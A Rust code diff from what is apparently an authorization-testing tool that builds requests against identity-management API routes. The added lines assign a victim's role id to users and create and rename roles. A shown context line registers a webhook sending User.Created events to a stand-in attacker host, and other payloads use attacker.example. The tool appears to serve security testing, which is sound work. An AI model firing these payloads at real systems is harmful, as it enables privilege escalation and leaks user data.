@@ -178,6 +178,8 @@ fn fill(v: &Victim, template: &str, name: &str, ghost: bool) -> Option<String> {
         "urn" if t.starts_with("/admin/v1/schemas") => g(VICTIM_EXT, "urn:ghost:ext:2.0:User"),
         "user_id" if t.starts_with("/admin/v1/users") => hex(&v.user_hex),
         "userId" if t.starts_with("/api/users") => hex(&v.user_hex),
+        "roleId" if t.starts_with("/api/users") => hex(&v.role_id),
+        "id" if t.starts_with("/api/roles") => hex(&v.role_id),
         "target" if t.starts_with("/api/users") => g(&v.identity, "ghostidp"),
         "user" | "userString" if t.starts_with("/v2/usermanagement") => {
             g(&v.user_email, "ghost@nowhere.example")
@@ -234,6 +236,11 @@ fn body(v: &Victim, r: &Route) -> Option<Value> {
             json!({"name": "Mallory", "primaryEmail": "mallory.logto@attacker.example"})
         }
         ("PATCH", "/api/users/{userId}") => json!({"name": "Pwned"}),
+        ("POST", "/api/roles") => json!({"name": "Mallory Logto Role", "description": ""}),
+        ("PATCH", "/api/roles/{id}") => json!({"name": "Pwned Logto Role"}),
+        ("POST", "/api/users/{userId}/roles") | ("PUT", "/api/users/{userId}/roles") => {
+            json!({"roleIds": [v.role_id]})
+        }
         ("POST", "/api/hooks") => json!({"name": "mallory hook", "events": ["User.Created"],
                                          "config": {"url": "https://mallory-hooks.example.com/x"}}),
         ("PATCH", "/api/hooks/{id}") => json!({"name": "Pwned", "enabled": false}),
